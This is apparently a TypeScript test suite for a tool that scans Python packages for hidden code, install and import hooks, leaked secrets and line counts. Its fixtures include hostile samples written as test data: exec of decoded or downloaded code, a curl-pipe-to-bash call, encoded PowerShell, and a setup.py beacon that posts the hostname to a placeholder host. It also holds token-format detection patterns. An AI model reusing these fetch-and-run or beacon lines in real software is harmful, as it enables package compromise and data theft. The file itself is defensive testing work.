import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { generateKeyPairSync } from "node:crypto";
import { describe, test } from "node:test";
import { crc32 } from "node:zlib";
import {
  codeOf,
  findSecrets,
  lookAt,
  type MemberReader,
  parseBanditReport,
  parseClocReport,
  readSource,
} from "@thoth/artifact";
import { ThothError } from "@thoth/pep";
import fc from "fast-check";

function look(text: string, path = "pkg/module.py", installs = false): string[] {
  return lookAt({ path, text, installs }).findings.map(
    ({ kind, severity, line }) => `${kind} ${severity} ${line}`,
  );
}

describe("code that runs what it hides", () => {
  test("is found, through imports, names and nested calls", () => {
    const hidden = ["hidden-code high 2"];
    assert.deepEqual(look("import base64\nexec(base64.b64decode('aGk='))"), hidden);
    assert.deepEqual(
      look("from base64 import b64decode as d\nexec(compile(d(b'aGk='), '<x>', 'exec'))"),
      hidden,
    );
    assert.deepEqual(
      look("import zlib, base64 as b\nexec(zlib.decompress(b.b85decode(x)).decode())"),
      hidden,
    );
    assert.deepEqual(look("\nexec(__import__('base64').b64decode('aGk='))"), hidden);
    assert.deepEqual(look("\neval(bytes.fromhex('6869').decode())"), hidden);
    assert.deepEqual(look("import base64\na = base64.b64decode('x')\nb = a.decode()\nexec(b)"), [
      "hidden-code high 4",
    ]);
    assert.deepEqual(look("from cryptography.fernet import Fernet\nexec(Fernet(k).decrypt(x))"), hidden);
    assert.deepEqual(look("import requests\nexec(requests.get('http://x').text)"), [
      "downloaded-code high 2",
    ]);
    assert.deepEqual(look("from urllib.request import urlopen as u\nexec(u('http://x').read())"), [
      "downloaded-code high 2",
    ]);
  });

  test("is not what honest packages do", () => {
    for (const text of [
      "exec(open('pkg/version.py').read())",
      "import base64\ndata = base64.b64decode(text)\nsave(data)",
      "import subprocess\nsubprocess.run(['git', 'describe'])",
      "eval('1 + 1')",
      "import requests\nprint(requests.get(url).text)",
      "def exec_(code):\n    exec(code)\nimport zlib\nother = zlib.decompress(x)",
      "print('curl https://x | sh')  # how to install",
      "model.eval(base64.b64decode(x))",
    ])
      assert.deepEqual(look(text), [], text);
  });

  test("is found in shell commands, and far to the right", () => {
    assert.deepEqual(look("import os\nos.system('curl -s http://x/a.sh | bash')"), ["shell-code high 2"]);
    assert.deepEqual(look("import subprocess as s\ns.Popen('powershell -EncodedCommand aaa')"), [
      "shell-code high 2",
    ]);
    assert.deepEqual(look(`x = 1${" ".repeat(400)}; import os; os.system('x')`), ["hidden-code high 1"]);
    assert.deepEqual(look(`x = 1${" ".repeat(400)}# a note`), []);
    assert.deepEqual(look(`${" ".repeat(400)}call(x)`), []);
  });

  test("is found where it cannot be read", () => {
    const names = Array.from({ length: 12 }, (_, at) => `_0x${(4096 + at).toString(16)} = ${at}`);
    assert.deepEqual(look(names.join("\n")), ["unreadable-code medium 1"]);
    assert.deepEqual(look("from pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, b'x')"), [
      "unreadable-code medium 2",
    ]);
  });
});

describe("code that runs without being asked for", () => {
  const beacon =
    "import socket, requests\ndef go():\n    requests.post('http://x', data=socket.gethostname())\n";

  test("is found in what installs", () => {
    assert.deepEqual(look(beacon, "setup.py", true), ["install-code high 3"]);
    assert.deepEqual(look(beacon, "setup.py", false), []);
    const downloads =
      "import urllib.request, subprocess\ndef run(self):\n    urllib.request.urlretrieve(u, 'x')\n    subprocess.call(['./x'])";
    assert.deepEqual(look(downloads, "setup.py", true), ["install-code medium 3"]);
    const apart =
      "import urllib.request, subprocess\ndef a():\n    urllib.request.urlretrieve(u, 'x')\ndef b():\n    subprocess.call(['make'])";
    assert.deepEqual(look(apart, "setup.py", true), []);
  });

  test("is found in what an import runs, and not in functions that it only defines", () => {
    assert.deepEqual(look(beacon, "pkg/__init__.py"), []);
    assert.deepEqual(look(`${beacon}go()\n`, "pkg/__init__.py"), ["import-code high 3"]);
    assert.deepEqual(look(`${beacon}go()\n`, "pkg/other.py"), []);
    assert.deepEqual(look(`${beacon}go()\n`, "tests/__init__.py"), []);
  });

  test("is found in files that Python reads at each start", () => {
    assert.deepEqual(look("/some/folder\nimport _virtualenv\n", "x.pth"), ["start-code low 2"]);
    assert.deepEqual(look("import base64;exec(base64.b64decode('x'))\n", "x.pth"), ["start-code high 1"]);
    assert.deepEqual(look("# note\nfolder\nimportant\n", "x.pth"), []);
  });
});

function base62(value: number): string {
  const digits = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
  let text = "";
  for (let rest = value; rest > 0; rest = Math.floor(rest / 62)) text = digits[rest % 62]! + text;
  return text.padStart(6, "0");
}

describe("secrets", () => {
  const body = fc.stringMatching(/^[A-Za-z0-9]{30}$/);

  test("of GitHub and npm are known by their sums, and never shown", () => {
    const prefix = fc.constantFrom("ghp_", "gho_", "ghs_", "npm_");
    fc.assert(
      fc.property(prefix, body, fc.nat(5), (head, random, place) => {
        const token = head + random + base62(crc32(random));
        const found = findSecrets("a.py", `first\nkey = "${token}"\n`);
        assert.deepEqual(
          found.map(({ kind, line, confidence }) => [kind, line, confidence]),
          [["secret", 2, "high"]],
        );
        assert.ok(!JSON.stringify(found).includes(random.slice(0, 8)));
        const at = token.length - 1 - place;
        const other = token[at] === "a" ? "b" : "a";
        assert.deepEqual(findSecrets("a.py", token.slice(0, at) + other + token.slice(at + 1)), []);
      }),
    );
  });

  test("of every known form are found, and the same forms without chance in them are not", () => {
    // Characters in an order that no form asks for, the same in each run.
    const random = (alphabet: string, length: number) =>
      Array.from({ length }, (_, at) => alphabet[(at * at * 7 + at * 13 + 5) % alphabet.length]).join("");
    const upper = "ABCDEFGHJKLMNPQRSTUVWXYZ";
    const word = `${upper}${upper.toLowerCase()}23456789`;
    const digits = "29384756102";
    const place = Buffer.from(`\u0002\u0001\u0008pypi.org\u0002$${random(word, 90)}`, "latin1").toString(
      "base64url",
    );
    const forms: ((make: typeof random) => string)[] = [
      (make) => `github_pat_${make(word, 22)}_${make(word, 59)}`,
      (make) => `glpat-${make(word, 20)}`,
      (make) => `xoxb-${digits}-${digits}-${make(word, 24)}`,
      (make) => `hooks.slack.com/services/T${make(upper, 9)}/B${make(upper, 9)}/${make(word, 24)}`,
      (make) => `discord.com/api/webhooks/${digits}${digits.slice(0, 7)}/${make(word, 68)}`,
      (make) => `293847561:AA${make(word, 33)}`,
      (make) => `sk_live_${make(word, 24)}`,
      (make) => `AIza${make(word, 35)}`,
      (make) => `SG.${make(word, 22)}.${make(word, 43)}`,
      (make) => `sk-proj-${make(word, 40)}T3BlbkFJ${make(word, 40)}`,
      (make) => `sk-ant-api03-${make(word, 93)}`,
      (make) => `hf_${make(upper + upper.toLowerCase(), 34)}`,
    ];
    for (const form of [...forms, () => `pypi-${place}`])
      assert.equal(findSecrets("a.py", `key = "${form(random)}"`).length, 1, form(random));
    for (const form of forms)
      assert.equal(
        findSecrets("a.py", `key = "${form((_, length) => "x".repeat(length))}"`).length,
        0,
        form(random),
      );
  });

  test("are private keys that are whole", () => {
    const pem = generateKeyPairSync("ec", { namedCurve: "P-256" }).privateKey.export({
      type: "pkcs8",
      format: "pem",
    }) as string;
    const rsa = generateKeyPairSync("rsa", { modulusLength: 1024 }).privateKey.export({
      type: "pkcs1",
      format: "pem",
    }) as string;
    for (const text of [pem, rsa, JSON.stringify({ private_key: rsa }), `KEY = """${pem}"""`])
      assert.deepEqual(
        findSecrets("a.json", text).map(({ severity }) => severity),
        ["medium"],
      );
    assert.deepEqual(
      findSecrets("tests/key.pem", pem).map(({ severity }) => severity),
      ["low"],
    );
    assert.deepEqual(findSecrets("a.py", pem.replace(/\n.{20}/, "\n")), []);
    assert.deepEqual(findSecrets("a.py", "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----"), []);
  });

  test("are no examples", () => {
    const id = "AKIA" + "IOSFODNN7EXAMPLE";
    const key = "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY";
    assert.deepEqual(findSecrets("a.py", `id = "${id}"\nkey = "${key}"`), []);
    assert.deepEqual(findSecrets("a.py", `sk_live_${"x".repeat(24)}`), []);
    assert.deepEqual(findSecrets("a.py", `glpat-${"abcdefghij".repeat(2)}`), []);
    const real = ["AKIA" + "Q3EGUZ7TNVBD5XWK", "h7Gq/2LpXv9TzR4mWcKd1NfYb8SaUe6JoQiB3" + "Mx0"];
    assert.equal(findSecrets("a.py", `id = "${real[0]}"\nkey = "${real[1]}"`).length, 1);
    assert.equal(findSecrets("a.py", `id = "${real[0]}"`).length, 0);
  });
});

describe("lines of code", () => {
  test("are those that are not blank, no comment and no lone string", () => {
    const text =
      '"""A module.\n\nlong"""\nimport os  # note\n\n# note\nx = """a\n\nb"""\ndef f():\n    \'doc\'\n    return (1,\n        # in between\n        2)\n';
    assert.equal(readSource(text).lines, 6);
    assert.equal(readSource("").lines, 0);
    assert.equal(readSource("x\r\n\r\n# y\r\n").lines, 1);
  });

  test("have no more than the text", () => {
    const piece = fc.constantFrom(
      "x = 1",
      "# c",
      '"""d"""',
      "",
      "def f(",
      ")",
      "    y",
      "'''",
      "\\",
      "exec(a",
      "import b64 as q",
    );
    fc.assert(
      fc.property(fc.array(piece), (pieces) => {
        const text = pieces.join("\n");
        const { lines } = readSource(text);
        const full = text.split("\n").filter((line) => line.trim() !== "").length;
        assert.ok(lines <= full, `${lines} of ${full}`);
      }),
    );
  });

  const hasPython = spawnSync("python3", ["-c", "import ast"]).status === 0;

  test("are those of Python's own tokens and tree", { skip: hasPython ? false : "no python3" }, () => {
    const program = `
import ast, io, json, sys, tokenize, glob, sysconfig
out = []
for path in sorted(glob.glob(sysconfig.get_paths()["stdlib"] + "/*.py"))[:40]:
    text = open(path, encoding="utf-8", errors="replace", newline="").read()
    lone = set()
    for node in ast.walk(ast.parse(text)):
        if isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant) and isinstance(node.value.value, str):
            lone.add((node.value.lineno, node.value.col_offset))
    rows = [bool(row.strip()) for row in text.split("\\n")]
    lines = set()
    skip = {tokenize.COMMENT, tokenize.NL, tokenize.NEWLINE, tokenize.INDENT, tokenize.DEDENT, tokenize.ENDMARKER, tokenize.ENCODING}
    for t in tokenize.generate_tokens(io.StringIO(text).readline):
        if t.type in skip or (t.type == tokenize.STRING and t.start in lone): continue
        lines.update(n for n in range(t.start[0], t.end[0] + 1) if rows[n-1] or t.start[0] == t.end[0])
    out.append([path, len(lines)])
print(json.dumps([[p, n, open(p, encoding="utf-8", errors="replace", newline="").read()] for p, n in out]))`;
    const { stdout, stderr } = spawnSync("python3", ["-c", program], {
      encoding: "utf8",
      maxBuffer: 1 << 28,
    });
    const files = JSON.parse(stdout || "[]") as [string, number, string][];
    assert.ok(files.length > 10, stderr);
    for (const [path, lines, text] of files) assert.equal(readSource(text).lines, lines, path);
  });
});

describe("a release", () => {
  const readAll = <Result>(reader: MemberReader<Result>, files: Readonly<Record<string, string>>): Result => {
    let step = reader.next();
    while (step.done !== true) step = reader.next(Buffer.from(files[step.value] ?? ""));
    return step.value;
  };
  const fact = (filename: string, files: Readonly<Record<string, string>>) => {
    const members = Object.entries(files).map(([name, text]) => ({ name, size: text.length }));
    return readAll(codeOf({ filename, members }), files);
  };
  const beacon = "import socket, requests\nrequests.post('http://x', data=socket.gethostname())\n";

  test("as a source distribution installs by setup.py and by a backend of its own", () => {
    const pyproject = '[build-system]\nrequires = []\nbuild-backend = "own.build"\nbackend-path = ["."]\n';
    const found = fact("x-1.tar.gz", {
      "x-1/setup.py": beacon,
      "x-1/own/build.py": beacon,
      "x-1/pkg/setup.py": beacon,
      "x-1/pyproject.toml": pyproject,
    });
    assert.deepEqual(
      found.findings.map(({ kind, path }) => [kind, path]),
      [
        ["install-code", "own/build.py"],
        ["install-code", "setup.py"],
      ],
    );
    assert.equal(found.lines, 6);
  });

  test("as a wheel installs nothing by itself", () => {
    assert.deepEqual(fact("x-1-py3-none-any.whl", { "x/setup.py": beacon, "x/a.txt": "" }).findings, []);
  });

  test("of any text is looked at without failing", () => {
    fc.assert(
      fc.property(
        fc.string({
          unit: fc.constantFrom(
            "\0",
            "\ud800",
            "é",
            "\n",
            "(",
            "'",
            '"',
            "\\",
            "exec",
            "import ",
            "a",
            " ",
            "#",
            ":",
          ),
        }),
        fc.constantFrom("setup.py", "a.pth", "b.json"),
        (text, path) => {
          lookAt({ path, text, installs: true });
        },
      ),
    );
  });
});

describe("reports of others", () => {
  test("are put in our words, or refused", () => {
    const result = {
      filename: "code/f3.py",
      line_number: 7,
      test_id: "B102",
      issue_severity: "MEDIUM",
      issue_confidence: "UNDEFINED",
      issue_text: "Use of exec",
    };
    const text = JSON.stringify({ results: [result, null, 3, { filename: 1 }] });
    assert.deepEqual(
      parseBanditReport(text, (file) => (file === "code/f3.py" ? "a.py" : undefined)),
      [
        {
          kind: "bandit-B102",
          severity: "medium",
          confidence: "low",
          path: "a.py",
          line: 7,
          message: "Use of exec",
        },
      ],
    );
    assert.equal(parseClocReport('{"Python":{"code":12}}'), 12);
    assert.equal(parseClocReport(""), 0);
    for (const broken of ["[", "null", '{"results":1}'])
      assert.throws(() => parseBanditReport(broken, () => "a"), ThothError);
    assert.throws(() => parseClocReport('{"Python":{"code":"x"}}'), ThothError);
  });
});
